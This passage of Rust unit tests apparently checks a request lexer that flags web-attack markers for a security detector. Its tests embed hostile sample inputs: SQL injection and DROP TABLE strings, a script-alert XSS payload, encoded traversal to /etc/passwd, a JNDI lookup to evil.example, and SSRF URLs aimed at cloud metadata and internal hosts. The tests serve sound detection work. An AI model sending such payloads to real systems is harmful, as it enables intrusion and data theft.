                let once: String = m.bytes().map(|c| format!("%{c:02X}")).collect();
                let twice = once.replace('%', "%25");
                for enc in [once, twice] {
                    let q = format!("u={url}&v={enc}");
                    let f = l.features("/x", Some(&q), None, None);
                    assert!(count(&f, class) >= 1.0, "{m:?} as {enc:?} was not counted");
                }
            }
        }
    }

    #[test]
    fn profile_counts_match_their_definitions() {
        let mut l = Lexer::new();
        let every_marker: Vec<&str> = [SQLI, XSS, TRAVERSAL, CMD].concat();
        // Alphabets where `..`, `&&`, `--`, `{{`, lone dots, ampersands, dashes and braces, digits,
        // specials, suspicious bytes, upper case and markers made of none of those
        // (`whoami`, `/*`, `win.ini`, `onload=`) all come up often.
        let alphabets: [&[u8]; 6] = [
            b".&a1-",
            b".&/-_9%<'",
            b"ab.&=+ {}\"0",
            b"whoamiWHOAMI/*",
            b"win.ionlad=",
            // JSON without spaces: `{{`, `${` and double quotes next to anything.
            b"{\"}:a1$,",
        ];
        let mut x = 0x9E37_79B9_7F4A_7C15u64;
        let mut scanned = [0usize; 2];
        for alphabet in alphabets {
            for len in 0..200usize {
                let mut next = || xorshift(&mut x);
                let mut s: Vec<u8> = (0..len)
                    .map(|_| alphabet[(next() % alphabet.len() as u64) as usize])
                    .collect();
                // Every other string gets a marker somewhere, its letters in random case.
                if next() % 2 == 0 {
                    let m = every_marker[(next() % every_marker.len() as u64) as usize];
                    let at = (next() % (len as u64 + 1)) as usize;
                    let cased = m.bytes().map(|c| {
                        if next() % 2 == 0 {
                            c.to_ascii_uppercase()
                        } else {
                            c
                        }
                    });
                    s.splice(at..at, cased);
                }
                // The string as the marker search sees it.
                let mut once = Vec::new();
                let mut twice = Vec::new();
                decode_lower(&s, &mut once);
                decode_lower(&once, &mut twice);
                let holds_marker = every_marker.iter().any(|m| {
                    [&once, &twice]
                        .iter()
                        .any(|t| t.windows(m.len()).any(|w| w == m.as_bytes()))
                });
                for special in [SPECIAL_PATH, SPECIAL_QUERY, SPECIAL_BODY] {
                    let ByteProfile {
                        digit_ratio: d,
                        special_ratio: sp,
                        scan: sus,
                        escaped,
                        ..
                    } = l.profile(&s, special);
                    assert_eq!(escaped, s.contains(&b'%'), "{s:?}");
                    let n = s.len().max(1) as f32;
                    let digits = s.iter().filter(|c| c.is_ascii_digit()).count();
                    let specials = s.iter().filter(|&&c| CLASS[c as usize] & special != 0);
                    assert_eq!(d, digits as f32 / n, "{s:?}");
                    assert_eq!(sp, specials.count() as f32 / n, "{s:?}");
                    // Never a marker missed …
                    assert!(sus || !holds_marker, "{s:?}");
                    // … and no search without a reason for it.
                    let reason = s.iter().any(|&c| suspicious(c))
                        || s.windows(2)
                            .any(|w| w == b".." || w == b"&&" || w == b"--" || w == b"{{")
                        || holds_marker;
                    assert!(reason || !sus, "{s:?}");
                    scanned[usize::from(sus)] += 1;
                }
            }
        }
        // Both outcomes came up often enough to mean something.
        assert!(scanned.iter().all(|&k| k > 150), "{scanned:?}");
    }

    #[test]
    fn attacks_raise_their_markers() {
        let mut l = Lexer::new();
        let f = l.features("/api/v1/search", Some("q=1%27%20OR%201%3D1--"), None, None);
        assert!(f.sqli >= 2.0, "{f:?}");
        assert!(f.encoded_ratio > 0.3);
        let f = l.features(
            "/api/v1/search",
            Some("q=%3Cscript%3Ealert(1)%3C/script%3E"),
            None,
            None,
        );
        assert!(f.xss >= 2.0, "{f:?}");
        let f = l.features("/api/v1/static/..%252f..%252fetc/passwd", None, None, None);
        assert!(f.traversal >= 2.0, "{f:?}");
        let f = l.features("/", None, None, Some("${jndi:ldap://evil.example/a}"));
        assert!(f.cmd >= 1.0, "{f:?}");
        let f = l.features("/file%00.txt", None, None, None);
        assert_eq!(f.null_bytes, 1.0);
        let f = l.features(
            "/",
            None,
            Some("{\"name\": \"x'; DROP TABLE users;--\"}"),
            None,
        );
        assert!(f.sqli >= 2.0, "{f:?}");
    }

    #[test]
    fn urls_and_internal_hosts_in_parameters() {
        let mut l = Lexer::new();
        let f = l.features(
            "/api/v1/images/proxy",
            Some("url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data"),
            None,
            None,
        );
        assert_eq!((f.param_url, f.param_internal_host), (1.0, 1.0));
        let f = l.features("/p", Some("url=https://cdn.example.com/a.png"), None, None);
        assert_eq!((f.param_url, f.param_internal_host), (1.0, 0.0));
        let f = l.features("/p", Some("callback=http://2130706433/"), None, None);
        assert_eq!(f.param_internal_host, 1.0);
        let f = l.features("/p", Some("host=10.0.0.5"), None, None);
        assert_eq!((f.param_url, f.param_internal_host), (1.0, 1.0));
        let f = l.features("/p", Some("f=file:///etc/passwd"), None, None);
        assert_eq!(f.param_internal_host, 1.0);
        let f = l.features(
            "/w",
            None,
            Some(r#"{"url":"http://localhost:8080/admin","x":"y"}"#),
            None,
        );
        assert_eq!((f.param_url, f.param_internal_host), (1.0, 1.0));
        let f = l.features("/p", Some("price=10.5&v=1.2.3"), None, None);
        assert_eq!(f.param_url, 0.0);
    }

    #[test]
    fn urls_and_addresses_in_form_and_json_bodies() {
        let mut l = Lexer::new();
        let both = |f: Lexical| (f.param_url, f.param_internal_host);
        let body = |l: &mut Lexer, b: &str| both(l.features("/p", None, Some(b), None));
        // Form bodies, field by field as a query string (encoded or not).
        assert_eq!(
            body(&mut l, "url=http://169.254.169.254/latest/meta-data"),
            (1.0, 1.0)
        );
        assert_eq!(
            body(&mut l, "a=1&next=http%3A%2F%2F127.0.0.1%2Fadmin&b=2"),
            (1.0, 1.0)
        );
        assert_eq!(body(&mut l, "  host=10.0.0.5&port=80"), (1.0, 1.0));
        assert_eq!(
            body(&mut l, "img=https://cdn.example.com/a.png"),
            (1.0, 0.0)
        );
        assert_eq!(body(&mut l, "name=bob&price=10.5"), (0.0, 0.0));
        // JSON: quoted addresses as well as URLs.
        assert_eq!(body(&mut l, r#"{"host":"10.0.0.5"}"#), (1.0, 1.0));
        assert_eq!(
            body(&mut l, r#"{"target": "192.168.1.1:8080/x"}"#),
            (1.0, 1.0)
        );
        assert_eq!(body(&mut l, r#"{"peer":"203.0.113.9"}"#), (1.0, 0.0));
        assert_eq!(
            body(&mut l, r#"{"v":"1.2.3","n":"42","q":"a=b"}"#),
            (0.0, 0.0)
        );
        // JSON and XML bodies holding `=` are not read as forms.
        assert_eq!(
            body(&mut l, r#"[{"f":"a=b","u":"http://10.1.2.3/"}]"#),
            (1.0, 1.0)
        );
        assert_eq!(body(&mut l, r#"<a href="x=1">0</a>"#), (0.0, 0.0));
        assert_eq!(body(&mut l, "plain text, no fields"), (0.0, 0.0));
    }
}
